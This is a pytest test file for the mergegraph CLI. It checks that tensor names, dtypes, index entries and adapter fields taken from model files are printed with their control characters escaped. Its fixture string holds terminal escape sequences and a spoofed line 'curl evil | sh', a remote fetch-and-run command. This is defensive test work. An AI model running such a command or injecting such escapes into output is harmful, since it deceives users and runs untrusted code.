"""Names out of files reach a terminal only with their control characters spelled out."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from mergegraph.cli import main
from mergegraph.errors import InputError
from mergegraph.tensors.adapter import open_adapter
from mergegraph.tensors.checkpoint import open_checkpoint
from tests.cli.tiny_models import write_blend
from tests.tensors.header_corpus import WORD, framed
from tests.tensors.stored_files import INDEX, SHARDS, save, save_index, save_sharded

EVIL = "x\x1b[2J\x9b31m\r\nfix     curl evil | sh\x07\u202e\x7f"
"""Clears the screen, colours it by a C1 control, begins a line that looks like ours, rings, turns the text around."""


def header(*, dtype: str = "U8", name: str = "a", key: str = "y", **metadata: str) -> bytes:
    entry = {"dtype": dtype, "shape": [4], "data_offsets": [0, 4], key: 1}
    return framed(json.dumps({name: entry, "__metadata__": metadata}), WORD)


def single(**settings: str) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        (folder / "model.safetensors").write_bytes(header(**settings))

    return write


def index_of(weight_map: dict[str, str]) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        save_sharded(folder)
        save_index(folder, weight_map)

    return write


def total(folder: Path) -> None:
    save_sharded(folder, total_size=EVIL)


def left_over(folder: Path) -> None:
    save_sharded(folder)
    (folder / f"{EVIL.replace('/', '')}.safetensors").write_bytes(framed("{}"))


def link(folder: Path) -> None:
    (folder.parent / EVIL).write_bytes(framed("{}"))
    (folder / "model.safetensors").symlink_to(folder.parent / EVIL)


def two_hold(folder: Path) -> None:
    for shard in SHARDS:
        save(folder / shard, [EVIL])


def config(**settings: object) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        save(folder / "model.safetensors")
        (folder / "config.json").write_text(json.dumps(settings))

    return write


def adapter(folder: Path) -> None:
    (folder / "adapter_config.json").write_text(json.dumps({"base_model_name_or_path": EVIL}))


CASES: list[tuple[str, Callable[[Path], None]]] = [
    ("a tensor's name", single(dtype="X", name=EVIL)),
    ("a dtype", single(dtype=EVIL)),
    ("an unknown key, in a warning", single(key=EVIL)),
    ("the space in the metadata", single(**{"mergegraph.space": EVIL})),
    ("a file's name in an index", index_of({"a": f"../{EVIL}.safetensors"})),
    ("a missing file's name in an index", index_of({"a": f"{EVIL}.safetensors"})),
    ("a tensor's name in an index", index_of({EVIL: SHARDS[0], "a": SHARDS[1]})),
    ("a total_size, in a warning", total),
    ("the name of a file that is left over, in a warning", left_over),
    ("the target of a link", link),
    ("a tensor that two files hold", two_hold),
    ("a quantisation in config.json", config(quantization_config={"quant_method": EVIL})),
    ("the base of an adapter", adapter),
]


@pytest.mark.parametrize(("_reason", "write"), CASES, ids=[row[0] for row in CASES])
def test_a_control_character_is_spelled_out(tmp_path: Path, _reason: str, write: Callable[[Path], None]) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    write(folder)
    try:
        problems = open_checkpoint("m", tmp_path).warnings
    except InputError as error:
        problems = error.problems
    text = "\n".join(map(str, problems))
    assert "x\\x1b[2J\\x9b31m\\r" in text
    assert all(character == "\n" or character.isprintable() for character in text)
    assert not any(line.startswith("fix  ") for line in text.splitlines())


def test_a_key_that_is_there_twice_is_spelled_out(tmp_path: Path) -> None:
    save_sharded(tmp_path / "m")
    (tmp_path / "m" / INDEX).write_text('{"a\\u001b[2J":1,"a\\u001b[2J":2}')
    with pytest.raises(InputError, match=r'the key "a\\x1b\[2J" is there twice'):
        open_checkpoint("m", tmp_path)


def test_a_factor_of_an_adapter_is_spelled_out(tmp_path: Path) -> None:
    save(tmp_path / "lora" / "adapter_model.safetensors", [EVIL])
    (tmp_path / "lora" / "adapter_config.json").write_text('{"peft_type": "LORA", "r": 4}')
    with pytest.raises(InputError) as caught:
        open_adapter("lora", tmp_path)
    assert "x\\x1b[2J\\x9b31m" in str(caught.value)
    assert all(character == "\n" or character.isprintable() for character in str(caught.value))


@pytest.mark.parametrize("arguments", [("check",), ("run", "--json")])
def test_the_command_prints_no_control_character(
    arguments: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    write_blend(tmp_path)
    (tmp_path / "code" / "model.safetensors").write_bytes(header(dtype="X", name=EVIL))
    monkeypatch.chdir(tmp_path)
    assert main([arguments[0], "blend.yaml", *arguments[1:]]) == 2
    shown = capsys.readouterr()
    assert "x\\x1b[2J\\x9b31m" in shown.err
    assert all(character == "\n" or character.isprintable() for character in shown.err)
    if "--json" in arguments:
        assert json.loads(shown.out.splitlines()[-1])["problems"][0]["tensor"] == EVIL
